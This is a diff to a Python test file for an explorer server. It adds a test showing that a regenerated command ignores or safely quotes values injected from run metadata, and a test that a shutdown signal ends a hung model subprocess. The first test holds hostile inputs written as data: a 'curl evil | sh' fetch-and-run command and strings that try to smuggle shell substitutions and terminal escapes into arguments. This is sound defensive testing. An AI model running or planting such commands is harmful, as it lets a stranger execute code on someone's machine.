@@ -5,7 +5,12 @@ from __future__ import annotations
 import http.client
 import json
 import os
+import shlex
 import shutil
+import signal
+import subprocess
+import sys
+import threading
 from urllib.parse import urlsplit
 from urllib.request import urlopen
 
@@ -13,6 +18,7 @@ import pytest
 
 from theodolite import read_run
 from theodolite.explorer.content import Content
+from theodolite.explorer.live import Live
 
 pytest.importorskip("starlette", reason="starlette is not installed")
 
@@ -172,6 +178,61 @@ def test_a_run_without_its_arrays_still_shows_its_numbers(made, tmp_path):
     content = Content(read_run(folder))
     assert content.views == ["scatter", "gallery", "table"]
     assert json.loads(content.read("about.json")[1])["frame"]["rows"] == 6
+
+
+def test_the_command_that_measures_again_is_our_own_whatever_a_run_says(made):
+    run = read_run(made("survey"))
+
+    def only(**changed):
+        content = Content(read_run(made("survey")))
+        content.run.info.update(changed)
+        return json.loads(content.read("about.json")[1])["only"]
+
+    own = only()
+    assert own.startswith("theodolite survey zoo:patches-kl --data ")
+    assert shlex.split(own)[-2:] == ["--out", f"{run.path}-selection"]
+    assert "--limit" not in own
+    assert only(command="bash -c 'curl evil | sh'") == own
+    evil = "x; $(curl evil) `id` | sh '&"
+    assert shlex.split(only(arguments={"model": evil}))[2] == evil
+    assert evil in shlex.split(only(settings={**run.settings, "data": evil}))
+    assert only(arguments={"model": "--log=wandb:evil"}) is None
+    assert only(arguments={"model": "x\x1b[201~\ncurl evil"}) is None
+    assert only(arguments={"model": {"a": 1}}) is None
+    assert only(settings={}) is None
+
+
+def test_the_signal_to_end_does_not_wait_for_the_model(monkeypatch):
+    """A model that computes for a minute: without the signal its answer would be another one."""
+    from theodolite.explorer.server import application, bound, ending_with
+
+    hung = "import time; input(); print('{}', flush=True); input(); time.sleep(60); print('{\"late\": 1}', flush=True)"
+    real, started = subprocess.Popen, threading.Event()
+
+    def popen(command, **options):
+        process = real([sys.executable, "-c", hung], **options)
+        started.set()
+        return process
+
+    monkeypatch.setattr("theodolite.explorer.live.subprocess.Popen", popen)
+    live, listener, answers = Live("zoo:digits", None, []), bound(0), []
+    server = ending_with(live, application([], "token", {(host := f"127.0.0.1:{listener.getsockname()[1]}")}, live))
+
+    def ask():
+        connection = http.client.HTTPConnection(host, timeout=120)
+        connection.request("POST", "/token/live", b"{}", {"Content-Type": "application/json"})
+        answers.append(json.loads(connection.getresponse().read()))
+        connection.close()
+
+    threads = [threading.Thread(target=server.run, kwargs={"sockets": [listener]}), threading.Thread(target=ask)]
+    for thread in threads:
+        thread.start()
+    assert started.wait(60)
+    server.handle_exit(signal.SIGINT, None)
+    for thread in threads:
+        thread.join(120)
+    assert answers == [{"error": "the explorer ends, and the model with it"}]
+    assert live.ask({}) == answers[0]  # and none starts again
 
 
 def test_a_damaged_run_is_one_line_for_the_page(made, serving, tmp_path):
